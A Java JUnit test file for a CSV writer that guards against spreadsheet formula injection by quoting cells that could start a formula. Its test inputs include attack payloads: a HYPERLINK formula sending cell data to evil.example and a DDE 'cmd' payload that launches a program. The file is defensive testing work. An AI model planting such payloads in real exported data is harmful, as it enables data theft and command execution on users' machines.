package io.tmsprovisioner.report;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.StringWriter;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetSafeCsvTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+41 22 555", "-2+3",
            "@SUM(A1:A9)", "-cmd|' /C calc'!A0", "\t=1+1", "\rtext", "- reason from Tapis", "=jdoe", "+jdoe"})
    void aCellThatCouldStartAFormulaGetsALeadingQuote(String cell) {
        assertThat(SpreadsheetSafeCsv.neutralise(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "jdoe", "-jdoe", "@jdoe", "-", "--.._@", "w.hale@utexas.edu", "-1", "a=b+c",
            "'already quoted", "401", "action 'x' is not one of establish, remove, reset"})
    void userNamesAndCellsThatCannotStartAFormulaAreLeftAlone(String cell) {
        // user names may start with - or @; a cell of name characters only can call no function
        assertThat(SpreadsheetSafeCsv.neutralise(cell)).isEqualTo(cell);
    }

    @Test
    void everyCellOfARowIsNeutralisedAndQuotedAsRfc4180Needs() {
        StringWriter out = new StringWriter();
        SpreadsheetSafeCsv csv = new SpreadsheetSafeCsv(out);

        csv.row("-jdoe", "=1+1", "a,b", "say \"hi\"");
        csv.finish();

        assertThat(out).hasToString("-jdoe,'=1+1,\"a,b\",\"say \"\"hi\"\"\"\n");
    }
}
